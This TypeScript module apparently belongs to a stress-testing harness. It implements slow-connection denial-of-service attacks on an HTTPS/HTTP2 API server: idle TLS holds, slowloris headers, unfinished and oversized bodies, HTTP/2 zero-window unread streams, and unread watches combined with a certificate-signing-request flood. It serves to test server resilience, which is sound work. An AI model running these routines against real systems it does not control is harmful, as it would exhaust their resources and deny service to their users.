/** Attacks that hold connections open: idle, or with a transfer that is never finished. */
import { Buffer } from "node:buffer";
import { Agent } from "node:https";
import { ask } from "../support/https_request.ts";
import { FRAME, frame, requestFrame } from "../support/raw_http2.ts";
import { scaled, type Target } from "./attack.ts";
import { bearer, createNodeRequest, CSRS, OPENAPI, WHOAMI } from "./requests.ts";
import { type AttackConnection, open, openSilent } from "./connection.ts";
import { pause, repeat, waitUntil } from "./waiting.ts";

/** The number of connections that are opened in parallel. */
const WIDTH = 50;
const STREAMS = 100;
/** The time limit for the server to read requests or to answer them. */
const ANSWERED_WITHIN_MS = 30_000;
const CREATORS = 40;
/** HTTP/2 settings for a client that does not read: the server may send headers and no data. */
const NO_WINDOW = frame(FRAME.settings, 0, 0, Uint8Array.of(0, 4, 0, 0, 0, 0));
const PING = frame(FRAME.ping, 0, 0, new Uint8Array(8));

/** Holds connections open that never begin a TLS handshake. */
export function holdSilent(count: number, target: Target): Promise<void> {
  return hold(count, target, () => openSilent(target));
}

/** Holds connections that finish the TLS handshake and send no request. */
export function holdIdle(count: number, target: Target): Promise<void> {
  return hold(count, target, () => open(target, { protocol: "h2" }));
}

/** Holds connections of authenticated clients, each of which has received an answer. */
export function holdKnown(count: number, target: Target): Promise<void> {
  return hold(count, target, async () => {
    const connection = await open(target, { protocol: "h2" });
    await connection.write(requestFrame(1, "GET", "/version", { authorization: `Bearer ${target.token}` }));
    const isAnswered = () => connection.answers() > 0 || connection.isClosed();
    await waitUntil(isAnswered, target.deadline, ANSWERED_WITHIN_MS);
    if (connection.answers() > 0) return connection;
    connection[Symbol.dispose]();
    throw new Error("no answer");
  });
}

/** Opens connections and holds them. Connections that the server has closed are not reopened. */
async function hold(count: number, target: Target, connect: () => Promise<Disposable>): Promise<void> {
  using held = new DisposableStack();
  await repeat(scaled(count, target.scale), WIDTH, target.deadline, async () => void held.use(await connect()));
  await pause(target.ms, target.deadline);
}

/** Sends requests whose headers arrive byte by byte; `sent` counts bytes. */
export async function slowHeaders(count: number, target: Target): Promise<void> {
  using held = new DisposableStack();
  const all: AttackConnection[] = [];
  await repeat(scaled(count, target.scale), WIDTH, target.deadline, async () => {
    const connection = held.use(await open(target, { protocol: "http/1.1" }));
    await connection.write("GET /version HTTP/1.1\r\nhost: localhost\r\nx-slow: ");
    all.push(connection);
  });
  for (const end = performance.now() + target.ms; performance.now() < end && !target.deadline.aborted;) {
    await Promise.all(
      all.map(async (one) => {
        if (await one.write("y")) target.tally.sent++;
      }),
    );
    await pause(500, target.deadline);
  }
}

/** Sends requests whose bodies never arrive; `sent` counts requests that the server has read. */
export async function slowBodies(count: number, target: Target): Promise<void> {
  using held = new DisposableStack();
  await openStreams(count, target, held, (stream) => requestFrame(stream, "POST", WHOAMI, bearer(target.token), true));
  await pause(target.ms, target.deadline);
}

/** Sends bodies of 3 MB without their end; `sent` counts pieces, and `answered` bodies that the server rejected. */
export async function largeBodies(count: number, target: Target): Promise<void> {
  using held = new DisposableStack();
  const piece = Buffer.concat([Buffer.from("10000\r\n"), Buffer.alloc(65_536, 0x20), Buffer.from("\r\n")]);
  await repeat(scaled(count, target.scale), 10, target.deadline, async () => {
    const connection = held.use(await open(target, { protocol: "http/1.1", code: 429 }));
    await connection.write(
      `POST ${WHOAMI} HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${target.token}\r\n` +
        "content-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n",
    );
    for (let piecesLeft = 45; piecesLeft > 0 && !connection.isClosed() && connection.answers() === 0; piecesLeft--) {
      if (await Promise.race([connection.write(piece), pause(2_000, target.deadline)])) target.tally.sent++;
    }
  });
  await pause(target.ms, target.deadline);
}

/** Requests large answers, of which the server may send only the headers. */
export async function unreadAnswers(count: number, target: Target): Promise<void> {
  using held = new DisposableStack();
  const streams = await openStreams(
    count,
    target,
    held,
    (stream) => requestFrame(stream, "GET", OPENAPI, bearer(target.token)),
  );
  await waitUntil(() => target.tally.answered >= streams, target.deadline, ANSWERED_WITHIN_MS);
  await pause(target.ms, target.deadline);
}

/** Opens watches that are never read, while their objects change. */
export async function unreadWatches(count: number, changes: number, target: Target): Promise<void> {
  using held = new DisposableStack();
  const streams = await openStreams(
    count,
    target,
    held,
    (stream) => requestFrame(stream, "GET", `${CSRS}?watch=1`, bearer(target.token)),
  );
  await waitUntil(() => target.tally.answered >= streams, target.deadline, ANSWERED_WITHIN_MS);
  await createRequests(scaled(changes, target.scale), target);
  await pause(target.ms, target.deadline);
}

/** Creates certificate signing requests over a few connections, and retries refused ones. */
async function createRequests(count: number, { port, token, tally, deadline, random }: Target): Promise<void> {
  const csr = await createNodeRequest("flood");
  const agent = new Agent({ keepAlive: true });
  await repeat(count, CREATORS, deadline, async () => {
    const body = { ...csr, metadata: { name: `flood-${Math.floor(random() * 1e15).toString(36)}` } };
    const { code, text } = await ask({ port, path: CSRS, token, body, agent, rejectUnauthorized: false });
    if (code !== 201) throw new Error(text);
    tally.created++;
  });
  agent.destroy();
}

/** Sends requests without a window for answers, a hundred per connection, and waits until the server has read them. */
async function openStreams(
  count: number,
  target: Target,
  held: DisposableStack,
  piece: (stream: number) => Buffer,
): Promise<number> {
  const streams = scaled(count, target.scale);
  await repeat(Math.ceil(streams / STREAMS), 1, target.deadline, async () => {
    const connection = held.use(await open(target, { protocol: "h2" }));
    await connection.write(NO_WINDOW);
    const size = Math.min(STREAMS, streams - target.tally.sent);
    const pieces = Array.from({ length: size }, (_, index) => piece(index * 2 + 1));
    await connection.write(Buffer.concat([...pieces, PING]));
    await waitUntil(() => connection.pongs() > 0 || connection.isClosed(), target.deadline, ANSWERED_WITHIN_MS);
    if (connection.pongs() === 0) throw new Error("the server has not read the requests");
    target.tally.sent += size;
  });
  return streams;
}
